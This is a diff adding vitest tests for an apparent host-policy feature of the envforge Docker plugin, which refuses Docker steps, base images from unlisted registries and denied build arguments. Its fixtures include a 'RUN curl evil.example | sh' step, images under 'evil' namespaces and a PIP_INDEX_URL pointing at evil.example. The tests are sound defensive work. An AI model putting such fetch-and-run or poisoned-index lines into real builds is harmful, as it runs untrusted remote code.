@@ -2,7 +2,7 @@ import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "n
 import os from "node:os";
 import path from "node:path";
 import { afterAll, describe, expect, it } from "vitest";
-import { createEngine, EnvforgeError, type HashResult } from "@envforge/core";
+import { createEngine, EnvforgeError, STRICT_POLICY, type HashResult, type HostPolicy } from "@envforge/core";
 import { dockerPlugin } from "./plugin.js";
 import { applyDockerSection, DOCKER_SECTION_TAP } from "./section.js";
 
@@ -253,5 +253,99 @@ describe("registration", () => {
   it("publishes the docker fields in the JSON Schema", () => {
     const schema = engine().jsonSchema() as { properties: Record<string, { properties?: Record<string, unknown> }> };
     expect(Object.keys(schema.properties.docker!.properties!).sort()).toEqual(["baseDockerfile", "baseImage", "buildArgs", "platform", "steps"]);
+  });
+});
+
+describe("the host policy (ParseContext.policy), checked at parse time", () => {
+  async function withPolicy(files: Record<string, string> | string, policy: Partial<HostPolicy>): Promise<{ result?: HashResult; error?: EnvforgeError; dir: string }> {
+    const dir = mkdtempSync(path.join(tmp, "policy-"));
+    for (const [name, text] of Object.entries(typeof files === "string" ? { "env.yaml": files } : files)) writeFileSync(path.join(dir, name), text);
+    const engine = createEngine({ plugins: [dockerPlugin()], cacheDir: path.join(tmp, "cache"), policy });
+    try {
+      return { result: await engine.hash(path.join(dir, "env.yaml")), dir };
+    } catch (e) {
+      expect(e).toBeInstanceOf(EnvforgeError);
+      return { error: e as EnvforgeError, dir };
+    }
+  }
+
+  it("docker.steps are refused unless allowDockerSteps: E_POLICY at the field, naming the flag", async () => {
+    const yaml = "name: x\ndocker:\n  baseImage: debian:12\n  steps:\n    - RUN curl evil.example | sh\n";
+    const { error, dir } = await withPolicy(yaml, STRICT_POLICY);
+    expect(error).toMatchObject({ code: "E_POLICY", field: "docker.steps", location: { file: path.join(dir, "env.yaml"), line: 4, column: 3 } });
+    expect(error?.hint).toContain("--allow-docker-steps");
+    expect(error?.hint).toContain("policy.allowDockerSteps");
+    expect((await withPolicy(yaml, { ...STRICT_POLICY, allowDockerSteps: true, baseImageRegistries: ["docker.io"] })).result).toBeDefined();
+    expect((await withPolicy(yaml, {})).result).toBeDefined(); // the permissive default
+    // No steps run: an empty list is not refused.
+    expect((await withPolicy("docker:\n  baseImage: debian:12\n  steps: []\n", { ...STRICT_POLICY, baseImageRegistries: undefined })).result).toBeDefined();
+  });
+
+  it("a definition's own Dockerfile is refused unless allowDockerSteps, before the file is read", async () => {
+    const { error } = await withPolicy({ "env.yaml": "docker:\n  baseDockerfile: ./missing\n" }, STRICT_POLICY);
+    expect(error).toMatchObject({ code: "E_POLICY", field: "docker.baseDockerfile", location: { line: 2, column: 3 } });
+    expect(error?.hint).toContain("--allow-docker-steps");
+    const files = { "env.yaml": "docker:\n  baseDockerfile: ./Dockerfile\n", Dockerfile: "FROM debian:12\nRUN true\n" };
+    expect((await withPolicy(files, { ...STRICT_POLICY, allowDockerSteps: true, baseImageRegistries: undefined })).result).toBeDefined();
+  });
+
+  it.each([
+    ["python:3.11-slim", "docker.io"],
+    ["docker.io/library/python:3.11", "docker.io"],
+    ["index.docker.io/library/python:3.11", "docker.io"],
+    ["ghcr.io/org/image:1", "ghcr.io"],
+    ["localhost:5000/base:1", "localhost:5000"],
+  ])("base image %s comes from %s: refused unless that registry is listed", async (image, registry) => {
+    const yaml = `name: x\ndocker:\n  baseImage: ${image}\n`;
+    const { error, dir } = await withPolicy(yaml, STRICT_POLICY);
+    expect(error).toMatchObject({ code: "E_POLICY", field: "docker.baseImage", location: { file: path.join(dir, "env.yaml"), line: 3, column: 14 } });
+    expect(error?.message).toContain(`registry ${registry}`);
+    expect(error?.hint).toContain(`--allow-registry ${registry}`);
+    expect((await withPolicy(yaml, { ...STRICT_POLICY, baseImageRegistries: [registry] })).result).toBeDefined();
+    expect((await withPolicy(yaml, { ...STRICT_POLICY, baseImageRegistries: ["quay.io"] })).error?.message).toContain("allowed: quay.io");
+  });
+
+  it("'registry-1.docker.io' in the policy means Docker Hub; a port is part of the registry", async () => {
+    expect((await withPolicy("docker:\n  baseImage: python:3\n", { baseImageRegistries: ["registry-1.docker.io"] })).result).toBeDefined();
+    expect((await withPolicy("docker:\n  baseImage: localhost:5001/x:1\n", { baseImageRegistries: ["localhost:5000"] })).error?.code).toBe("E_POLICY");
+  });
+
+  it("each FROM of an allowed Dockerfile, and each image it copies or mounts from, must come from a listed registry", async () => {
+    const policy = { ...STRICT_POLICY, allowDockerSteps: true, baseImageRegistries: ["docker.io"] };
+    const ok = "FROM debian:12 AS build\nRUN true\nFROM scratch AS empty\nFROM python:3.11\nCOPY --from=build /x /x\nCOPY --from=0 /y /y\n";
+    expect((await withPolicy({ "env.yaml": "docker:\n  baseDockerfile: D\n", D: ok }, policy)).result).toBeDefined();
+    const cases: [string, number, string][] = [
+      ["FROM debian:12 AS build\nFROM ghcr.io/evil/base:1\n", 2, "ghcr.io"],
+      ["FROM debian:12\nCOPY --from=quay.io/evil/tools:1 /bin/x /x\n", 2, "quay.io"],
+      ["FROM debian:12\nRUN --mount=type=cache,from=quay.io/evil/c,target=/c true\n", 2, "quay.io"],
+      ["ARG BASE=ghcr.io/evil/base:1\nFROM ${BASE}\n", 2, "ghcr.io"],
+      ["FROM ${UNSET}\n", 1, "depends on a build argument"],
+    ];
+    for (const [content, line, says] of cases) {
+      const { error, dir } = await withPolicy({ "env.yaml": "docker:\n  baseDockerfile: D\n", D: content }, policy);
+      expect(error?.code, content).toBe("E_POLICY");
+      expect(error?.message, content).toContain(says);
+      expect(error?.location, content).toMatchObject({ file: path.join(dir, "D"), line });
+      expect(error?.field).toBe("docker.baseDockerfile");
+    }
+    // A build argument of the definition decides an ARG-based FROM: checked with its value.
+    const byArg = await withPolicy({ "env.yaml": "docker:\n  baseDockerfile: D\n  buildArgs: {BASE: 'ghcr.io/evil/b:1'}\n", D: "ARG BASE=debian:12\nFROM ${BASE}\n" }, policy);
+    expect(byArg.error?.message).toContain("ghcr.io");
+    expect((await withPolicy({ "env.yaml": "docker:\n  baseDockerfile: D\n", D: "ARG BASE=debian:12\nFROM $BASE\n" }, policy)).result).toBeDefined();
+  });
+
+  it("a step copying from an image outside the listed registries is refused; from a stage of the base Dockerfile it is not", async () => {
+    const policy = { ...STRICT_POLICY, allowDockerSteps: true, baseImageRegistries: ["docker.io"] };
+    const step = await withPolicy("docker:\n  baseImage: debian:12\n  steps:\n    - COPY --from=ghcr.io/evil/x:1 /a /a\n", policy);
+    expect(step.error).toMatchObject({ code: "E_POLICY", field: "docker.steps[0]", location: { line: 4 } });
+    const files = { "env.yaml": "docker:\n  baseDockerfile: D\n  steps: ['COPY --from=build /x /x']\n", D: "FROM debian:12 AS build\nFROM debian:12\n" };
+    expect((await withPolicy(files, policy)).result).toBeDefined();
+  });
+
+  it("build arguments are variables of the image build: denied names are refused at their key", async () => {
+    const { error } = await withPolicy("docker:\n  baseImage: debian:12\n  buildArgs:\n    PIP_INDEX_URL: http://evil.example/simple\n", { ...STRICT_POLICY, baseImageRegistries: undefined });
+    expect(error).toMatchObject({ code: "E_POLICY", field: "docker.buildArgs.PIP_INDEX_URL", location: { line: 4, column: 5 } });
+    expect(error?.hint).toContain("--allow-variable 'PIP_*'");
+    expect((await withPolicy("docker:\n  baseImage: debian:12\n  buildArgs: {VERSION: '1'}\n", { ...STRICT_POLICY, baseImageRegistries: undefined })).result).toBeDefined();
   });
 });
